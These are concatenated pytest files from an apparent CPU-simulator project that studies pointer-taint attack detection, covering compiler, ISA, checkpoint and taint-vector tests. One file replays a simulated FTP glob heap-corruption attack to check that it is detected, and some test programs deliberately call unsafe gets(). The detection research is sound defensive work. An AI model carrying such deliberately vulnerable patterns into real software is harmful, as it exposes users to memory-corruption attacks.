    def test_global_char_scalar(self):
        assert exit_of(
            "flag = 'x'; return flag;", declarations="char flag;"
        ) == ord("x")

    def test_global_pointer_assignment(self):
        assert stdout_of(
            'name = "global"; printf("%s", name); return 0;',
            declarations="char *name;",
        ) == "global"

    def test_global_string_array_initializer(self):
        assert stdout_of(
            'printf("%s", banner); return 0;',
            declarations='char banner[16] = "init!";',
        ) == "init!"

    def test_global_modified_across_calls(self):
        assert exit_of(
            "push(1); push(2); push(3); return depth;",
            declarations=(
                "int depth = 0;\nint stack[8];\n"
                "void push(int v) { stack[depth] = v; depth++; }\n"
            ),
        ) == 3

    def test_char_array_roundtrip_all_byte_values(self):
        assert exit_of(
            "char b[4]; int ok; b[0] = 0; b[1] = 127; b[2] = 128; b[3] = 255;"
            "ok = (b[0] == 0) + (b[1] == 127) + (b[2] == 128) + (b[3] == 255);"
            "return ok;"
        ) == 4


class TestLoops:
    def test_for_with_comma_free_compound_step(self):
        assert exit_of(
            "int i; int j; int s; s = 0;"
            "for (i = 0; i < 3; i += 1) {"
            "  for (j = i; j < 3; ++j) { s += 10; }"
            "}"
            "return s;"
        ) == 60

    def test_while_with_break_in_nested_if(self):
        assert exit_of(
            "int i; i = 0;"
            "while (1) { i++; if (i > 4) { if (i > 4) { break; } } }"
            "return i;"
        ) == 5

    def test_continue_in_for_executes_step(self):
        assert exit_of(
            "int i; int s; s = 0;"
            "for (i = 0; i < 6; i++) { if (i % 2) { continue; } s += i; }"
            "return s;"
        ) == 0 + 2 + 4

    def test_empty_body_loops(self):
        assert exit_of(
            "int i; for (i = 0; i < 5; i++) { } while (0) { } return i;"
        ) == 5

    def test_loop_with_function_condition(self):
        assert exit_of(
            "int n; n = 0; while (below(n, 4)) { n++; } return n;",
            declarations="int below(int a, int b) { return a < b; }",
        ) == 4


class TestFramesAndStack:
    def test_large_frame(self):
        assert exit_of(
            "char big[2048]; big[0] = 1; big[2047] = 2;"
            "return big[0] + big[2047];"
        ) == 3

    def test_many_locals_exhaust_sregs_gracefully(self):
        names = [f"v{i}" for i in range(12)]
        declarations = "".join(f"int {n};" for n in names)
        assigns = "".join(f"{n} = {i};" for i, n in enumerate(names))
        total = "+".join(names)
        assert exit_of(
            declarations + assigns + f"return {total};"
        ) == sum(range(12))

    def test_recursion_depth_100(self):
        assert exit_of(
            "return down(100);",
            declarations=(
                "int down(int n) { if (n == 0) { return 0; }"
                " return 1 + down(n - 1); }"
            ),
        ) == 100

    def test_mixed_char_int_locals_alignment(self):
        assert exit_of(
            "char c; int x; char d; int y;"
            "c = 1; x = 1000; d = 2; y = 2000;"
            "return (x + y) % 251 + c + d;"
        ) == 3000 % 251 + 3
