"""Checkpoint/rollback: snapshot round-trips and re-run determinism."""

import random

import pytest

from repro.core.policy import PointerTaintPolicy
from repro.cpu.machine import ExecutionLimit
from repro.cpu.simulator import Simulator
from repro.fault.checkpoint import Checkpoint
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

SOURCE = r"""
int main(void) {
    char buf[16];
    int *p;
    int v;
    int i;
    read(0, buf, 8);
    p = malloc(16);
    p[0] = 5;
    v = 0;
    i = 0;
    while (i < 40) {
        v = v + p[0] + buf[i % 8];
        i = i + 1;
    }
    printf("v=%d\n", v);
    return 0;
}
"""

STDIN = b"abcdefgh"


def make_machine(use_caches=False):
    kernel = Kernel(stdin=STDIN)
    sim = Simulator(
        build_program(SOURCE),
        PointerTaintPolicy(),
        syscall_handler=kernel,
        use_caches=use_caches,
    )
    kernel.attach(sim)
    return sim, kernel


def run_partway(sim, instructions=500):
    sim.arm_watchdog(max_instructions=instructions)
    with pytest.raises(ExecutionLimit):
        sim.run()
    sim.disarm_watchdog()


class TestMachineSnapshot:
    def test_roundtrip_restores_all_architectural_state(self):
        sim, kernel = make_machine()
        run_partway(sim)
        snap = sim.snapshot()
        # Perturb everything by running to completion...
        sim.run()
        assert sim.halted
        # ...then roll back and compare every captured domain.
        sim.restore(snap)
        assert sim.pc == snap.pc
        assert not sim.halted
        assert sim.regs.snapshot() == snap.regs
        assert sim.memory.snapshot() == snap.memory
        assert sim.stats == snap.stats
        assert tuple(sim.recent_pcs) == snap.recent_pcs
        assert tuple(sim.detector.alerts) == snap.alerts

    def test_taint_bitmap_roundtrips(self):
        sim, _ = make_machine()
        run_partway(sim, 2000)  # past the read(): input bytes are tainted
        snap = sim.snapshot()
        # Shadow state now lives in the plane snapshot, not the memory one.
        _, taint_pages, _, _ = snap.taint
        _, tainted_writes = snap.memory
        assert any(any(page) for page in taint_pages.values())
        # Scrub some shadow bits, then roll back.
        for base in list(taint_pages):
            sim.memory.set_taint(base, 64, False)
        sim.memory.set_taint(0x7FFF0000, 4, True)
        sim.restore(snap)
        assert sim.plane.snapshot()[1] == taint_pages
        assert sim.memory.tainted_bytes_written == tainted_writes

    def test_restore_is_in_place_and_rerunnable(self):
        """The decode-once executor closures capture the live register
        lists and stats object; restore must mutate them, never swap."""
        sim, kernel = make_machine()
        values = sim.regs.values
        taints = sim.regs.taints
        stats = sim.stats
        checkpoint = Checkpoint(sim, kernel)
        first_exit = sim.run()
        first_out = kernel.process.stdout_text
        first_instr = sim.stats.instructions
        checkpoint.restore(sim, kernel)
        assert sim.regs.values is values
        assert sim.regs.taints is taints
        assert sim.stats is stats
        assert sim.stats.instructions == 0
        # The same bound program must replay bit-for-bit after rollback.
        assert sim.run() == first_exit
        assert kernel.process.stdout_text == first_out
        assert sim.stats.instructions == first_instr

    def test_pages_materialized_after_snapshot_are_dropped(self):
        sim, _ = make_machine()
        run_partway(sim)
        snap = sim.snapshot()
        before = sim.memory.mapped_pages()
        sim.memory.write(0x55555550, 4, 0xDEAD, 0)
        assert sim.memory.mapped_pages() == before + 1
        sim.restore(snap)
        assert sim.memory.mapped_pages() == before
        assert sim.memory.read(0x55555550, 4) == (0, 0)

    def test_cache_state_roundtrips(self):
        sim, _ = make_machine(use_caches=True)
        run_partway(sim, 1500)
        snap = sim.snapshot()
        assert snap.caches is not None
        sim.run()
        sim.restore(snap)
        assert sim.caches.snapshot() == snap.caches

    def test_cache_config_mismatch_rejected(self):
        plain, _ = make_machine(use_caches=False)
        cached, _ = make_machine(use_caches=True)
        with pytest.raises(ValueError, match="cache configuration"):
            plain.restore(cached.snapshot())

    def test_watchpoints_roundtrip(self):
        sim, _ = make_machine()
        snap = sim.snapshot()
        sim.watchpoints.add(0x10000000, 8, "uid")
        sim.restore(snap)
        assert len(tuple(sim.watchpoints)) == 0


class TestCheckpointBundle:
    def test_kernel_state_rolls_back(self):
        sim, kernel = make_machine()
        checkpoint = Checkpoint(sim, kernel)
        sim.run()
        assert kernel.process.stdout_text  # consumed stdin, wrote stdout
        checkpoint.restore(sim, kernel)
        assert kernel.process.stdout_text == ""
        assert bytes(kernel.process.stdin) == STDIN

    def test_rng_stream_rolls_back(self):
        sim, kernel = make_machine()
        rng = random.Random(42)
        rng.random()
        checkpoint = Checkpoint(sim, kernel, rng)
        first = [rng.random() for _ in range(5)]
        checkpoint.restore(sim, kernel, rng)
        assert [rng.random() for _ in range(5)] == first

    def test_missing_domains_raise(self):
        sim, kernel = make_machine()
        bare = Checkpoint(sim)
        with pytest.raises(ValueError, match="no kernel state"):
            bare.restore(sim, kernel)
        with pytest.raises(ValueError, match="no RNG state"):
            bare.restore(sim, rng=random.Random(0))

    def test_checkpoint_restores_many_times(self):
        sim, kernel = make_machine()
        checkpoint = Checkpoint(sim, kernel)
        results = []
        for _ in range(3):
            checkpoint.restore(sim, kernel)
            results.append((sim.run(), kernel.process.stdout_text))
        assert len(set(results)) == 1
