"""Differential tests: MiniC vs. Python semantics, pipeline vs. functional.

Hypothesis generates random arithmetic programs; the compiled result on the
simulated machine must match a C-semantics evaluation done in Python, and
the pipeline engine must agree with the functional engine instruction for
instruction.
"""

from hypothesis import HealthCheck, given, settings, strategies as st

from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.cpu.pipeline import Pipeline
from repro.cpu.simulator import Simulator
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

_MASK32 = 0xFFFFFFFF


def _signed32(value):
    value &= _MASK32
    return value - 0x100000000 if value & 0x80000000 else value


# ---------------------------------------------------------------------------
# Random expression ASTs (value, C source) built bottom-up so the expected
# value is computed alongside the text.
# ---------------------------------------------------------------------------

def _combine(op, left, right):
    lv, ls = left
    rv, rs = right
    lv, rv = _signed32(lv), _signed32(rv)
    if op == "+":
        value = lv + rv
    elif op == "-":
        value = lv - rv
    elif op == "*":
        value = lv * rv
    elif op == "/":
        if rv == 0:
            return left  # skip division by zero: reuse left subtree
        value = int(lv / rv)  # C truncation
    elif op == "%":
        if rv == 0:
            return left
        value = lv - int(lv / rv) * rv
    elif op == "&":
        value = lv & rv
    elif op == "|":
        value = lv | rv
    elif op == "^":
        value = lv ^ rv
    elif op == "<":
        value = 1 if lv < rv else 0
    elif op == ">":
        value = 1 if lv > rv else 0
    elif op == "==":
        value = 1 if lv == rv else 0
    else:
        raise AssertionError(op)
    return value & _MASK32, f"({ls} {op} {rs})"


_leaf = st.integers(-1000, 1000).map(lambda n: (n & _MASK32, f"({n})"))

_exprs = st.recursive(
    _leaf,
    lambda children: st.tuples(
        st.sampled_from("+-*/%&|^<>") | st.just("=="),
        children,
        children,
    ).map(lambda t: _combine(*t)),
    max_leaves=12,
)


class TestCompilerDifferential:
    @given(_exprs)
    @settings(max_examples=30, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    def test_expression_matches_c_semantics(self, expr):
        value, source = expr
        result = run_minic(
            'int main(void) { printf("%d", ' + source + "); return 0; }"
        )
        assert result.outcome == "exit", result.describe()
        assert result.stdout == str(_signed32(value))

    @given(st.lists(st.integers(-100, 100), min_size=1, max_size=8))
    @settings(max_examples=15, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    def test_array_sum_matches(self, values):
        assigns = "".join(
            f"a[{i}] = {v};" for i, v in enumerate(values)
        )
        result = run_minic(
            "int main(void) { int a[8]; int i; int s;"
            + assigns +
            f"s = 0; for (i = 0; i < {len(values)}; i++) {{ s += a[i]; }}"
            "printf(\"%d\", s); return 0; }"
        )
        assert result.stdout == str(sum(values))

    @given(st.integers(0, 12))
    @settings(max_examples=8, deadline=None)
    def test_recursion_matches(self, n):
        expected = 1
        for i in range(2, n + 1):
            expected *= i
        result = run_minic(
            "int fact(int n) { if (n < 2) { return 1; }"
            " return n * fact(n - 1); }"
            f"int main(void) {{ printf(\"%d\", fact({n})); return 0; }}"
        )
        assert result.stdout == str(_signed32(expected))


class TestPipelineDifferential:
    def _run_both(self, source, stdin=b""):
        exe = build_program(source)
        outcomes = []
        for pipelined in (False, True):
            kernel = Kernel(stdin=stdin)
            sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
            kernel.attach(sim)
            if pipelined:
                status = Pipeline(sim).run()
            else:
                status = sim.run()
            outcomes.append((status, kernel.process.stdout_text,
                             sim.stats.instructions))
        return outcomes

    @given(st.integers(0, 50), st.integers(1, 9))
    @settings(max_examples=10, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    def test_pipeline_agrees_with_functional(self, n, step):
        source = (
            "int main(void) { int i; int s; s = 0;"
            f"for (i = 0; i < {n}; i += {step}) {{ s += i; }}"
            "printf(\"%d\", s); return s & 127; }"
        )
        functional, pipelined = self._run_both(source)
        assert functional == pipelined

    def test_pipeline_agrees_on_string_program(self):
        source = (
            "int main(void) { char buf[64]; gets(buf);"
            " printf(\"len=%d [%s]\", strlen(buf), buf); return 0; }"
        )
        functional, pipelined = self._run_both(source, stdin=b"pipeline!\n")
        assert functional == pipelined
        assert "len=9" in functional[1]
