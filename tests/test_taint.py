"""Unit and property tests for the per-byte taint representation."""

import pytest
from hypothesis import given, strategies as st

from repro.core.taint import (
    CLEAN,
    TaintVector,
    WORD_TAINTED,
    flags_from_mask,
    mask_for_bytes,
    mask_from_flags,
    word_mask_is_tainted,
)


class TestWordMasks:
    def test_clean_is_zero(self):
        assert CLEAN == 0
        assert not word_mask_is_tainted(CLEAN)

    def test_word_tainted_covers_four_bytes(self):
        assert WORD_TAINTED == 0b1111

    @pytest.mark.parametrize("mask", [0b0001, 0b0010, 0b0100, 0b1000, 0b1111])
    def test_any_byte_marks_word(self, mask):
        assert word_mask_is_tainted(mask)

    def test_mask_for_bytes(self):
        assert mask_for_bytes(0) == 0
        assert mask_for_bytes(1) == 1
        assert mask_for_bytes(4) == 0xF
        assert mask_for_bytes(8) == 0xFF

    def test_mask_for_bytes_rejects_negative(self):
        with pytest.raises(ValueError):
            mask_for_bytes(-1)

    def test_mask_from_flags_roundtrip(self):
        flags = [True, False, True, True]
        assert flags_from_mask(mask_from_flags(flags), 4) == flags


class TestTaintVector:
    def test_clean_constructor(self):
        tv = TaintVector.clean(8)
        assert tv.is_clean()
        assert not tv.any_tainted()
        assert tv.count() == 0

    def test_tainted_constructor(self):
        tv = TaintVector.tainted(3)
        assert tv.is_fully_tainted()
        assert tv.count() == 3

    def test_zero_length(self):
        tv = TaintVector.clean(0)
        assert tv.is_clean()
        assert tv.is_fully_tainted()  # vacuously
        assert len(tv) == 0

    def test_from_flags(self):
        tv = TaintVector.from_flags([False, True, False])
        assert not tv[0]
        assert tv[1]
        assert not tv[2]

    def test_indexing_bounds(self):
        tv = TaintVector.clean(2)
        with pytest.raises(IndexError):
            tv[2]
        with pytest.raises(IndexError):
            tv[-1]

    def test_mask_out_of_range_rejected(self):
        with pytest.raises(ValueError):
            TaintVector(2, 0b100)
        with pytest.raises(ValueError):
            TaintVector(2, -1)

    def test_or_and(self):
        a = TaintVector.from_flags([True, False, True])
        b = TaintVector.from_flags([False, False, True])
        assert list(a | b) == [True, False, True]
        assert list(a & b) == [False, False, True]

    def test_length_mismatch_rejected(self):
        with pytest.raises(ValueError):
            TaintVector.clean(2) | TaintVector.clean(3)

    def test_slice(self):
        tv = TaintVector.from_flags([True, False, True, True])
        assert list(tv.slice(1, 2)) == [False, True]
        assert list(tv.slice(0, 0)) == []

    def test_slice_out_of_range(self):
        with pytest.raises(ValueError):
            TaintVector.clean(4).slice(2, 3)

    def test_concat(self):
        a = TaintVector.from_flags([True])
        b = TaintVector.from_flags([False, True])
        assert list(a.concat(b)) == [True, False, True]

    def test_with_span_set_and_clear(self):
        tv = TaintVector.clean(4).with_span(1, 2, True)
        assert list(tv) == [False, True, True, False]
        tv = tv.with_span(0, 4, False)
        assert tv.is_clean()

    def test_equality_and_hash(self):
        a = TaintVector.from_flags([True, False])
        b = TaintVector(2, 0b01)
        assert a == b
        assert hash(a) == hash(b)
        assert a != TaintVector(2, 0b10)
        assert a != "not a vector"

    def test_repr_uses_t_dots(self):
        assert repr(TaintVector.from_flags([True, False])) == (
            "TaintVector('T.')"
        )


class TestTaintVectorProperties:
    @given(st.lists(st.booleans(), max_size=64))
    def test_flags_roundtrip(self, flags):
        assert list(TaintVector.from_flags(flags)) == flags

    @given(st.integers(0, 64), st.data())
    def test_or_is_monotone(self, length, data):
        mask_a = data.draw(st.integers(0, mask_for_bytes(length)))
        mask_b = data.draw(st.integers(0, mask_for_bytes(length)))
        a, b = TaintVector(length, mask_a), TaintVector(length, mask_b)
        union = a | b
        assert union.count() >= max(a.count(), b.count())
        # OR never loses taint: every tainted byte stays tainted.
        for i in range(length):
            if a[i] or b[i]:
                assert union[i]

    @given(st.lists(st.booleans(), min_size=1, max_size=32), st.data())
    def test_slice_concat_identity(self, flags, data):
        tv = TaintVector.from_flags(flags)
        cut = data.draw(st.integers(0, len(flags)))
        left = tv.slice(0, cut)
        right = tv.slice(cut, len(flags) - cut)
        assert left.concat(right) == tv

    @given(st.lists(st.booleans(), max_size=32))
    def test_or_identity_and_idempotence(self, flags):
        tv = TaintVector.from_flags(flags)
        assert tv | TaintVector.clean(len(flags)) == tv
        assert tv | tv == tv
