"""Globbing heap-corruption extension scenario (CA-2001-33 analogue)."""

import pytest

from repro.apps.ftpglob import (
    FTPGLOB_SOURCE,
    attack_pattern,
    ftpglob_scenario,
)
from repro.attacks.replay import run_minic
from repro.core.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.kernel.network import ScriptedClient


class TestGlobMatcher:
    """The matcher itself, exercised through the server's LIST command."""

    def _list(self, pattern):
        result = run_minic(
            FTPGLOB_SOURCE,
            PointerTaintPolicy(),
            clients=[ScriptedClient([b"LIST " + pattern + b"\n", b"QUIT\n"])],
        )
        assert result.outcome == "exit", result.describe()
        transcript = bytes(result.clients[0].transcript).decode()
        return transcript.split("\r\n")[1]

    def test_star_matches_everything(self):
        assert self._list(b"*") == "readme notes budget todo "

    def test_literal_name(self):
        assert self._list(b"budget") == "budget "

    def test_prefix_star(self):
        assert self._list(b"read*") == "readme "

    def test_question_marks(self):
        assert self._list(b"?o??") == "todo "

    def test_no_match_is_empty(self):
        assert self._list(b"zzz*") == ""

    def test_directory_prefix_echoed(self):
        assert self._list(b"pub/sub/n*") == "pub/sub/notes "

    def test_star_in_middle(self):
        assert self._list(b"b*t") == "budget "


class TestGlobAttack:
    def test_detected_at_unlink_store(self):
        result = ftpglob_scenario().run_attack(PointerTaintPolicy())
        assert result.detected
        assert result.alert.kind == "store"
        assert result.alert.pointer_value == 0x61616161

    def test_attack_pattern_shape(self):
        pattern = attack_pattern()
        assert pattern.endswith(b"/*")
        assert len(pattern) > 40

    def test_control_data_baseline_misses(self):
        result = ftpglob_scenario().run_attack(ControlDataPolicy())
        assert not result.detected

    def test_unprotected_wild_writes_land(self):
        scenario = ftpglob_scenario()
        result = scenario.run_attack(NullPolicy())
        assert not result.detected
        assert result.sim.stats.tainted_dereferences > 0
        assert scenario.attack_succeeded(result)

    def test_benign_sessions_clean(self):
        result = ftpglob_scenario().run_benign(PointerTaintPolicy())
        assert result.outcome == "exit"
        transcript = bytes(result.clients[0].transcript)
        assert b"226 Transfer complete" in transcript
        assert b"221 Goodbye" in transcript
