"""Functional ISA semantics: each instruction class executed on the machine."""

import pytest

from repro.cpu.simulator import ExecutionLimit, Simulator, SimulatorFault
from repro.isa.assembler import assemble

from tests.helpers import run_asm


class TestArithmetic:
    def test_add_sub(self, run_body):
        sim, status = run_body(
            "li $t0, 40\nli $t1, 2\nadd $v1, $t0, $t1\n"
        )
        assert status == 42

    def test_sub_negative_wraps(self, run_body):
        sim, _ = run_body("li $t0, 1\nli $t1, 2\nsub $t2, $t0, $t1\n"
                          "move $v1, $t2\n")
        assert sim.regs.value(10) == 0xFFFFFFFF

    def test_addiu_negative_immediate(self, run_body):
        _, status = run_body("li $t0, 10\naddiu $v1, $t0, -3\n")
        assert status == 7

    def test_logic_ops(self, run_body):
        sim, _ = run_body(
            "li $t0, 0xF0F0\nli $t1, 0x0FF0\n"
            "and $s0, $t0, $t1\nor $s1, $t0, $t1\n"
            "xor $s2, $t0, $t1\nnor $s3, $t0, $t1\n"
        )
        assert sim.regs.value(16) == 0x00F0
        assert sim.regs.value(17) == 0xFFF0
        assert sim.regs.value(18) == 0xFF00
        assert sim.regs.value(19) == 0xFFFF000F

    def test_logical_immediates_zero_extend(self, run_body):
        sim, _ = run_body(
            "li $t0, 0\nori $s0, $t0, 0xFFFF\nxori $s1, $t0, 0x8000\n"
            "andi $s2, $s0, 0xF00F\n"
        )
        assert sim.regs.value(16) == 0xFFFF
        assert sim.regs.value(17) == 0x8000
        assert sim.regs.value(18) == 0xF00F

    def test_lui(self, run_body):
        sim, _ = run_body("lui $s0, 0xABCD\n")
        assert sim.regs.value(16) == 0xABCD0000


class TestShifts:
    def test_sll_srl(self, run_body):
        sim, _ = run_body(
            "li $t0, 0x80000001\nsll $s0, $t0, 1\nsrl $s1, $t0, 1\n"
        )
        assert sim.regs.value(16) == 0x00000002
        assert sim.regs.value(17) == 0x40000000

    def test_sra_sign_extends(self, run_body):
        sim, _ = run_body("li $t0, 0x80000000\nsra $s0, $t0, 4\n")
        assert sim.regs.value(16) == 0xF8000000

    def test_variable_shifts_use_low_five_bits(self, run_body):
        sim, _ = run_body(
            "li $t0, 1\nli $t1, 33\nsllv $s0, $t0, $t1\n"
        )
        assert sim.regs.value(16) == 2


class TestComparisons:
    def test_slt_signed(self, run_body):
        sim, _ = run_body(
            "li $t0, -1\nli $t1, 1\nslt $s0, $t0, $t1\nslt $s1, $t1, $t0\n"
        )
        assert sim.regs.value(16) == 1
        assert sim.regs.value(17) == 0

    def test_sltu_unsigned(self, run_body):
        sim, _ = run_body(
            "li $t0, -1\nli $t1, 1\nsltu $s0, $t0, $t1\n"
        )
        assert sim.regs.value(16) == 0  # 0xFFFFFFFF > 1 unsigned

    def test_slti_sltiu(self, run_body):
        sim, _ = run_body(
            "li $t0, 5\nslti $s0, $t0, 10\nsltiu $s1, $t0, 3\n"
        )
        assert sim.regs.value(16) == 1
        assert sim.regs.value(17) == 0


class TestMultDiv:
    def test_mult_mflo_mfhi(self, run_body):
        sim, _ = run_body(
            "li $t0, 0x10000\nli $t1, 0x10000\nmult $t0, $t1\n"
            "mflo $s0\nmfhi $s1\n"
        )
        assert sim.regs.value(16) == 0
        assert sim.regs.value(17) == 1

    def test_mult_signed(self, run_body):
        sim, _ = run_body(
            "li $t0, -3\nli $t1, 7\nmult $t0, $t1\nmflo $s0\nmfhi $s1\n"
        )
        assert sim.regs.value(16) == 0xFFFFFFEB  # -21
        assert sim.regs.value(17) == 0xFFFFFFFF

    def test_div_truncates_toward_zero(self, run_body):
        sim, _ = run_body(
            "li $t0, -7\nli $t1, 2\ndiv $t0, $t1\nmflo $s0\nmfhi $s1\n"
        )
        assert sim.regs.value(16) == 0xFFFFFFFD  # -3, C semantics
        assert sim.regs.value(17) == 0xFFFFFFFF  # remainder -1

    def test_divu(self, run_body):
        sim, _ = run_body(
            "li $t0, 0x80000000\nli $t1, 2\ndivu $t0, $t1\nmflo $s0\n"
        )
        assert sim.regs.value(16) == 0x40000000

    def test_div_by_zero_does_not_crash(self, run_body):
        sim, _ = run_body("li $t0, 5\ndiv $t0, $0\nmflo $s0\n")
        assert sim.regs.value(16) == 0


class TestMemoryAccess:
    def test_word_store_load(self, run_body):
        _, status = run_body(
            "la $t0, buf\nli $t1, 1234\nsw $t1, 0($t0)\nlw $v1, 0($t0)\n",
            data="buf: .space 16",
        )
        assert status == 1234

    def test_byte_sign_extension(self, run_body):
        sim, _ = run_body(
            "la $t0, buf\nli $t1, 0x80\nsb $t1, 0($t0)\n"
            "lb $s0, 0($t0)\nlbu $s1, 0($t0)\n",
            data="buf: .space 4",
        )
        assert sim.regs.value(16) == 0xFFFFFF80
        assert sim.regs.value(17) == 0x80

    def test_halfword_sign_extension(self, run_body):
        sim, _ = run_body(
            "la $t0, buf\nli $t1, 0x8000\nsh $t1, 0($t0)\n"
            "lh $s0, 0($t0)\nlhu $s1, 0($t0)\n",
            data="buf: .space 4",
        )
        assert sim.regs.value(16) == 0xFFFF8000
        assert sim.regs.value(17) == 0x8000

    def test_negative_offset_addressing(self, run_body):
        _, status = run_body(
            "la $t0, buf+8\nli $t1, 7\nsw $t1, -8($t0)\nlw $v1, -8($t0)\n",
            data="buf: .space 16",
        )
        assert status == 7

    def test_initialized_data_loaded(self, run_body):
        _, status = run_body(
            "la $t0, v\nlw $v1, 0($t0)\n", data="v: .word 31337"
        )
        assert status == 31337


class TestControlFlow:
    def test_taken_and_untaken_branches(self, run_body):
        _, status = run_body(
            "li $t0, 1\nli $v1, 0\n"
            "beq $t0, $0, skip\nli $v1, 5\nskip:\n"
            "bne $t0, $0, end\nli $v1, 9\nend:\n"
        )
        assert status == 5

    def test_regimm_branches(self, run_body):
        _, status = run_body(
            "li $t0, -4\nli $v1, 0\n"
            "bltz $t0, neg\nb end\n"
            "neg: li $v1, 1\nbgez $0, end\nli $v1, 9\nend:\n"
        )
        assert status == 1

    def test_blez_bgtz(self, run_body):
        _, status = run_body(
            "li $t0, 0\nli $v1, 0\n"
            "blez $t0, a\nb end\na: li $v1, 3\n"
            "li $t1, 2\nbgtz $t1, end\nli $v1, 9\nend:\n"
        )
        assert status == 3

    def test_jal_links_and_jr_returns(self, run_body):
        _, status = run_body(
            "jal func\nb end\n"
            "func: li $v1, 11\njr $ra\n"
            "end:\n"
        )
        assert status == 11

    def test_jalr_custom_link(self, run_body):
        sim, status = run_body(
            "la $t0, func\njalr $s7, $t0\nb end\n"
            "func: li $v1, 13\njr $s7\nend:\n"
        )
        assert status == 13

    def test_loop_countdown(self, run_body):
        _, status = run_body(
            "li $t0, 10\nli $v1, 0\n"
            "loop: addiu $v1, $v1, 2\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
        )
        assert status == 20


class TestFaultsAndLimits:
    def test_break_faults(self):
        with pytest.raises(SimulatorFault, match="break"):
            run_asm(".text\n_start: break\n")

    def test_fetch_outside_text_faults(self):
        with pytest.raises(SimulatorFault, match="outside text"):
            run_asm(".text\n_start: li $t0, 0x10000\njr $t0\n")

    def test_instruction_budget_enforced(self):
        with pytest.raises(ExecutionLimit):
            run_asm(".text\n_start: b _start\n", max_instructions=100)

    def test_syscall_without_kernel_faults(self):
        exe = assemble(".text\n_start: syscall\n")
        sim = Simulator(exe)
        with pytest.raises(SimulatorFault, match="no kernel"):
            sim.run()

    def test_register_zero_stays_zero(self, run_body):
        sim, _ = run_body("li $t0, 7\nadd $0, $t0, $t0\nmove $v1, $0\n")
        assert sim.regs.value(0) == 0

    def test_recent_pcs_ring_buffer(self, run_body):
        sim, _ = run_body("nop\n" * 40)
        assert len(sim.recent_pcs) == 32
        assert sim.recent_pcs[-1] > sim.recent_pcs[0]


class TestCachedExecution:
    def test_program_runs_identically_with_caches(self):
        source = (
            ".text\n_start:\n"
            "la $t0, buf\nli $t1, 0\nli $t2, 0\n"
            "loop: sw $t1, 0($t0)\nlw $t3, 0($t0)\naddu $t2, $t2, $t3\n"
            "addiu $t1, $t1, 1\naddiu $t0, $t0, 4\n"
            "slti $at, $t1, 50\nbnez $at, loop\n"
            "move $a0, $t2\nli $v0, 1\nsyscall\n"
            ".data\nbuf: .space 256\n"
        )
        _, plain = run_asm(source)
        _, cached = run_asm(source, use_caches=True)
        assert plain == cached == sum(range(50))
