"""MiniC parser tests: AST shapes, precedence, diagnostics."""

import pytest

from repro.cc.ast_nodes import (
    ArrayType,
    Assign,
    Binary,
    Block,
    CHAR,
    Call,
    Conditional,
    For,
    FuncDef,
    If,
    INT,
    Index,
    IntLiteral,
    LocalDecl,
    PointerType,
    Return,
    StringLiteral,
    Unary,
    VarRef,
    While,
)
from repro.cc.errors import CompileError
from repro.cc.parser import parse


def parse_expr(text):
    unit = parse(f"int main(void) {{ return {text}; }}")
    statement = unit.functions[0].body.statements[0]
    assert isinstance(statement, Return)
    return statement.value


class TestDeclarations:
    def test_function_signature(self):
        unit = parse("int add(int a, char *b) { return 0; }")
        func = unit.functions[0]
        assert func.name == "add"
        assert func.return_type == INT
        assert [p.name for p in func.params] == ["a", "b"]
        assert func.params[1].ctype == PointerType(CHAR)
        assert not func.varargs

    def test_void_parameter_list(self):
        assert parse("int f(void) { return 0; }").functions[0].params == []

    def test_varargs(self):
        func = parse("int p(char *f, ...) { return 0; }").functions[0]
        assert func.varargs

    def test_prototype_skipped(self):
        unit = parse("int f();\nint f(void) { return 1; }")
        assert len(unit.functions) == 1

    def test_array_parameter_decays(self):
        func = parse("int f(char buf[], int n) { return 0; }").functions[0]
        assert func.params[0].ctype == PointerType(CHAR)

    def test_global_scalars_and_arrays(self):
        unit = parse("int x = 5;\nchar buf[10];\nint *p;\n")
        assert unit.globals[0].init == 5
        assert isinstance(unit.globals[1].ctype, ArrayType)
        assert unit.globals[1].ctype.size == 10
        assert unit.globals[2].ctype == PointerType(INT)

    def test_global_string_initializer(self):
        unit = parse('char msg[8] = "hi";')
        assert unit.globals[0].init == b"hi\0"

    def test_global_list_initializer(self):
        unit = parse("int t[3] = {1, 2, -3};")
        assert unit.globals[0].init == [1, 2, -3]

    def test_multiple_declarators_per_line(self):
        unit = parse("int a = 1, b = 2;")
        assert [g.name for g in unit.globals] == ["a", "b"]

    def test_local_multi_declarators_become_block(self):
        unit = parse("int f(void) { int a = 1, b = 2; return a + b; }")
        inner = unit.functions[0].body.statements[0]
        assert isinstance(inner, Block)
        assert all(isinstance(s, LocalDecl) for s in inner.statements)


class TestExpressions:
    def test_precedence_mul_over_add(self):
        expr = parse_expr("1 + 2 * 3")
        assert isinstance(expr, Binary) and expr.op == "+"
        assert isinstance(expr.right, Binary) and expr.right.op == "*"

    def test_left_associativity(self):
        expr = parse_expr("10 - 4 - 3")
        assert expr.op == "-"
        assert isinstance(expr.left, Binary) and expr.left.op == "-"

    def test_comparison_below_shift(self):
        expr = parse_expr("1 << 2 < 3")
        assert expr.op == "<"
        assert expr.left.op == "<<"

    def test_logical_operators_lowest(self):
        expr = parse_expr("a == 1 && b || c")
        assert expr.op == "||"
        assert expr.left.op == "&&"

    def test_assignment_right_associative(self):
        expr = parse_expr("a = b = 3")
        assert isinstance(expr, Assign)
        assert isinstance(expr.value, Assign)

    def test_compound_assignment(self):
        expr = parse_expr("a += 2")
        assert isinstance(expr, Assign) and expr.op == "+="

    def test_ternary(self):
        expr = parse_expr("a ? 1 : 2")
        assert isinstance(expr, Conditional)

    def test_unary_chain(self):
        expr = parse_expr("-*&x")
        assert isinstance(expr, Unary) and expr.op == "-"
        assert expr.operand.op == "*"
        assert expr.operand.operand.op == "&"

    def test_postfix_increment(self):
        expr = parse_expr("x++")
        assert isinstance(expr, Unary) and expr.op == "++" and expr.postfix

    def test_prefix_increment(self):
        expr = parse_expr("++x")
        assert isinstance(expr, Unary) and not expr.postfix

    def test_call_with_arguments(self):
        expr = parse_expr("f(1, g(2), x)")
        assert isinstance(expr, Call)
